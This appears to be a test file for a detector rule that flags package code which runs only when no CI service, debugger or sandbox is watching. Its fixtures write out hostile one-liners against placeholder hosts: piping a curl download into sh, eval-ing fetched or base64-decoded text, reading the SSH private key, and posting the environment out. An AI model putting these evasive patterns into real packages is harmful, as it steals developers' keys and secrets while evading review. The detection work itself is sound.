import { examine } from '../../../test/examine.ts';
import { actsOnlyUnwatched } from './acts-only-unwatched.ts';

const LOAD = `fetch('https://stage.invalid/x').then(r => r.text()).then(t => eval(t))`;
const FETCH = `require('child_process').exec('curl -s https://a.invalid/x | sh')`;
const KEY = `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')`;

examine(actsOnlyUnwatched, {
  speaks: [
    {
      when: 'a download is run where no build service is',
      files: { 'index.js': `if (!process.env.CI) ${LOAD}` },
      says: ['it runs what it downloads only where a build service does not see it (CI), when it is imported'],
      weight: 'strong',
    },
    {
      when: 'one of several services is asked for',
      files: { 'index.js': `if (!process.env.GITHUB_ACTIONS && !process.env.OTHER) ${FETCH}` },
      says: ['pipes a download into an interpreter'],
    },
    { when: 'no debugger is attached', files: { 'index.js': `if (!require('inspector').url()) ${FETCH}` }, says: ['a debugger'] },
    {
      when: 'the host is not called like a sandbox',
      files: { 'index.js': `if (!require('os').hostname().includes('sandbox')) exports.k = ${KEY}` },
      says: ['reads SSH keys', 'a machine for examination'],
    },
    {
      when: 'decoded text is run',
      files: { 'index.js': `if (!process.env.CI) eval(Buffer.from('SU5FUlQoKQ==', 'base64').toString())` },
      says: ['runs text that it decodes'],
    },
    { when: 'it ends itself where a build service is', files: { 'index.js': `if (process.env.CI) process.exit(0); ${FETCH}` } },
    {
      when: 'the environment is sent',
      files: { 'index.js': `if (!process.env.CI) fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })` },
      says: ['sends secrets'],
    },
  ],
  silent: [
    {
      when: 'statistics leave build services out',
      files: { 'index.js': `if (!process.env.CI) fetch('https://stats.invalid', { method: 'POST', body: JSON.stringify({ v: 1 }) })` },
    },
    {
      when: 'hooks are not set up in a build service',
      files: { 'index.js': `if (!process.env.CI) require('child_process').execSync('git config core.hooksPath .husky')` },
    },
    { when: 'the same is done everywhere', files: { 'index.js': LOAD } },
    { when: 'it is done only in a build service', files: { 'index.js': `if (process.env.CI) ${FETCH}` } },
    { when: 'it happens when it is called', files: { 'index.js': `exports.a = () => { if (!process.env.CI) ${FETCH} }` } },
    { when: 'another setting is asked for', files: { 'index.js': `if (!process.env.NO_COLOR) ${FETCH}` } },
  ],
});
